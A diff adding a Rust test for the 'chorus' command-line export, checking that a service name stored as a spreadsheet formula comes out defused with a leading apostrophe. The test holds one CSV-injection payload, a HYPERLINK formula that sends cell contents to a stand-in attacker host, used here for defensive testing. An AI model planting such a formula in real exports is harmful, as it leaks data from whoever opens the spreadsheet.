@@ -258,3 +258,42 @@ fn user_add_checks_the_address_and_the_password() {
     assert!(ok, "{out}");
     assert!(out.contains("(ann@trust.nhs.uk) is admin on demo"), "{out}");
 }
+
+/// `chorus export`, the binary an operator runs, defuses a stored service name a spreadsheet
+/// would run as a formula (the dashboard's download is checked in `dashboard.rs`); the other
+/// cells come out as stored.
+#[test]
+fn chorus_export_defuses_a_formula_in_a_service_name() {
+    let dir = std::env::temp_dir().join(format!("chorus-cli-formula-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(&dir).unwrap();
+    let db = format!("sqlite://{}", dir.join("t.db").display());
+    let evil = "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")";
+    tokio::runtime::Runtime::new().unwrap().block_on(async {
+        let store = chorus_server::store::Store::open(&db).await.unwrap();
+        sqlx::query("INSERT INTO responses (site, service, instrument, version, locale, idempotency_key, body_hash, answers, scores, received_at) VALUES ('demo', $1, 'fft', 1, 'en', 'formula-key-0001', 'h', '{\"fft\":\"good\"}', '{\"instrument\":\"fft\",\"version\":1}', '2026-11-02T10:00:00.000Z')")
+            .bind(evil)
+            .execute(store.pool())
+            .await
+            .unwrap();
+        store.pool().close().await;
+    });
+    let out = chorus()
+        .args(["export", "--database", &db, "--site", "demo"])
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let mut r = csv::Reader::from_reader(out.stdout.as_slice());
+    let header = r.headers().unwrap().clone();
+    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 1);
+    let cell = |name: &str| rows[0][header.iter().position(|h| h == name).unwrap()].to_string();
+    assert_eq!(cell("service"), format!("'{evil}"));
+    assert_eq!(cell("site"), "demo");
+    assert_eq!(cell("answers"), "{\"fft\":\"good\"}");
+    let _ = std::fs::remove_dir_all(&dir);
+}
